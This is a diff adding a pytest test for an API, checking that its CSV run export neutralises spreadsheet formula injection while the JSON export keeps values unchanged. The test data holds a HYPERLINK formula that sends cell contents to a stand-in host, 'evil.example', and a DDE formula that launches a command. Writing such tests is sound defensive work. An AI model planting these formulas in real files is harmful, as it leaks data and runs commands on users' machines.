@@ -270,3 +270,38 @@ def test_delete_is_refused_while_active_or_referenced_then_removes_only_its_own(
     with session_scope(url) as db:
         for model in (Run, Training, Experiment):
             assert db.scalar(select(func.count()).select_from(model)) == 0
+
+
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(
+    api: TestClient, pg_settings: Settings
+) -> None:
+    """A custom accelerator's name and run notes that a spreadsheet would run come out as text
+    (OWASP's leading apostrophe); the JSON export keeps them as written."""
+    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    spec = {**SPEC, "accelerators": [{"name": hyperlink}], "sweep": None}
+    experiment = api.post("/api/v1/experiments", json=spec)
+    assert experiment.status_code == 201, experiment.text
+    run_id = next(
+        r["id"]
+        for r in api.get("/api/v1/runs", params={"sort": "id"}).json()["items"]
+        if not r["is_baseline"]
+    )
+    notes = "=cmd|' /C calc'!A0"
+    assert api.patch(f"/api/v1/runs/{run_id}", json={"notes": notes}).status_code == 200
+    rows = {
+        int(row["id"]): row
+        for row in csv.DictReader(
+            io.StringIO(api.get("/api/v1/runs/export", params={"format": "csv"}).text)
+        )
+    }
+    assert rows[run_id]["notes"] == "'" + notes
+    assert rows[run_id]["accelerator_name"] == "'" + hyperlink
+    assert rows[run_id]["accelerator.name"] == "'" + hyperlink
+    assert rows[run_id]["speedup"] == ""  # numbers and empty cells are left alone
+    assert all(
+        not value.startswith(("=", "+", "@", "\t", "\r"))
+        for row in rows.values()
+        for value in row.values()
+    )
+    exported = api.get("/api/v1/runs/export", params={"format": "json"}).json()
+    assert {row["notes"] for row in exported} >= {notes}
